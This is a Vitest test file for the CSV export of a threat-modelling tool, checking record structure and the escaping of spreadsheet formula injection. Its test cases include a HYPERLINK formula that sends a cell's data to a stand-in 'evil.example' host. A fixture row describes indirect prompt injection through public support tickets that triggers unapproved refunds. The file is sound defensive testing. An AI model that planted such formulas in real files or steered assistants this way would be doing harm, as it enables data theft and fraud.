import { expect, test } from "vitest";
import type { Report } from "@bartizan/model";
import { writers } from "@bartizan/write";
import { analysisOf, reportOf, threat } from "./analysis-of.ts";
import { fixtures } from "./fixtures.ts";
import { catalog, orderHelp, orderHelpReport } from "./order-help.ts";

const csv = async (report: Report): Promise<string> => {
  const writer = writers.find((each) => each.name === "csv");
  return (await writer?.write({ report, catalog, options: { color: false, width: 80 } })) ?? "";
};

/** Records of RFC 4180, read strictly. */
const recordsOf = (text: string): string[][] => {
  const records: string[][] = [[]];
  let at = 0;
  while (at < text.length) {
    const found = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(text.slice(at));
    if (!found) throw new Error(`no cell at ${at}: ${text.slice(at, at + 40)}`);
    const [all, quoted, plain = "", end] = found;
    records.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === "\r\n") records.push([]);
    at += all.length;
  }
  expect(records.pop()).toEqual([]);
  return records;
};

test.each(fixtures)("CSV of $name reads back: a row per threat, and no cell is a formula", async ({ report }) => {
  const records = recordsOf(await csv(report));
  expect(records).toHaveLength(1 + report.systems.flatMap((system) => system.threats).length);
  expect(new Set(records.map((record) => record.length))).toEqual(new Set([16]));
  for (const cell of records.flat()) expect(cell).not.toMatch(/(?:^|;)\s*[=+\-@\t\r＝＋－＠]/);
});

test("a row says what is to be known of a threat", async () => {
  const [head = [], ...rows] = recordsOf(await csv(orderHelpReport));
  const cellsOf = (id: string) => Object.fromEntries(head.map((name, index) => [name, rows.find((row) => row[1] === id)?.[index]]));
  expect(cellsOf("indirect-prompt-injection@assistant")).toEqual({
    system: "order-help",
    id: "indirect-prompt-injection@assistant",
    level: "critical",
    score: "25",
    likelihood: "5",
    impact: "5",
    status: "open",
    title: "Anyone on the internet can steer Assistant through Public tickets, and Refunds needs no approval",
    place: "assistant",
    file: "models/sample.yaml",
    line: "20",
    rule: "indirect-prompt-injection",
    route: "tickets -> assistant -> refunds",
    "cleared by": "human-approval on refunds, or action-limits on refunds (planned)",
    frameworks: "AML.T0051.001, LLM01:2026, CWE-1427",
    questions: "",
  });
  expect(cellsOf("log-leak@log")).toMatchObject({
    status: "uncertain",
    "cleared by": "say log.authorization",
    questions: orderHelp.questions[0]?.text,
  });
});

test.each([
  ["=1+1", "'=1+1"],
  ["+1", "'+1"],
  ["-1", "'-1"],
  ["@SUM(A1)", "'@SUM(A1)"],
  ["  =1", "'  =1"],
  ["\t=1", "' =1"],
  ["\rx", String.raw`'\u{d}x`],
  ["\tx", "' x"],
  ["\n=1", "' =1"],
  ["＝1", "'＝1"],
  ["a;=1", "a;'=1"],
  ['=HYPERLINK("https://evil.example?x="&A1,"a")', `'=HYPERLINK("https://evil.example?x="&A1,"a")`],
  ['say "x", y', 'say "x", y'],
  ["a - b = c", "a - b = c"],
  ["two\r\nlines", "two lines"],
  ["bell\u0007", String.raw`bell\u{7}`],
  ["注文 é", "注文 é"],
])("the title %j becomes %j", async (title, shown) => {
  const text = await csv(reportOf([analysisOf({ threats: [threat("r", "a", "low", { title })] })]));
  expect(recordsOf(text)[1]?.[7]).toBe(shown);
});
